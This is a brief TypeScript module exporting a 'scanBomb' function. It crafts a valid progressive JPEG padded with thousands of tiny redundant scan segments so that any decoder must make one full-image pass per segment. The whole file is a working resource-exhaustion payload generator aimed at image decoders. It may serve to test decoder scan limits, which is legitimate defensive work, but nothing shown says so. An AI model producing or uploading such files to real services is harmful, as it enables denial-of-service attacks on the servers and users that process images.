import sharp from 'sharp';

const START_OF_SCAN = Buffer.from([0xff, 0xda]);
const HUFFMAN_TABLE = Buffer.from([0xff, 0xc4]);
const COMPONENTS = [1, 2, 3];
const COEFFICIENTS = Array.from({ length: 63 }, (_, index) => index + 1);
/** Bit positions from highest to lowest: each scan adds one bit of one coefficient of one component. */
const BITS = Array.from({ length: 14 }, (_, index) => 13 - index);

/**
 * Creates a small, valid progressive JPEG of one color with up to 2,646 scans more than it needs. Each has about 20 bytes and costs a
 * decoder a pass over the whole picture.
 */
export async function scanBomb(scans: number, side = 900): Promise<Buffer> {
  const create = { width: side, height: side, channels: 3, background: { r: 200, g: 30, b: 30 } } as const;
  const jpeg = await sharp({ create }).jpeg({ progressive: true, chromaSubsampling: '4:4:4' }).toBuffer();
  // The first scan has the colors. The second one says "nothing more in any block" for a component, with its own table.
  const first = jpeg.indexOf(START_OF_SCAN);
  const second = jpeg.indexOf(START_OF_SCAN, first + 2);
  const third = jpeg.indexOf(HUFFMAN_TABLE, second);
  const header = 10;
  const nothing = jpeg.subarray(second + header, third);
  const all = COMPONENTS.flatMap((component) =>
    COEFFICIENTS.flatMap((coefficient) =>
      BITS.map((bit) => {
        const previous = bit === 13 ? 0 : bit + 1;
        const bytes = [0, 8, 1, component, 0, coefficient, coefficient, previous * 16 + bit];
        return Buffer.concat([START_OF_SCAN, Buffer.from(bytes), nothing]);
      }),
    ),
  );
  return Buffer.concat([jpeg.subarray(0, second), ...all.slice(0, scans), jpeg.subarray(-2)]);
}
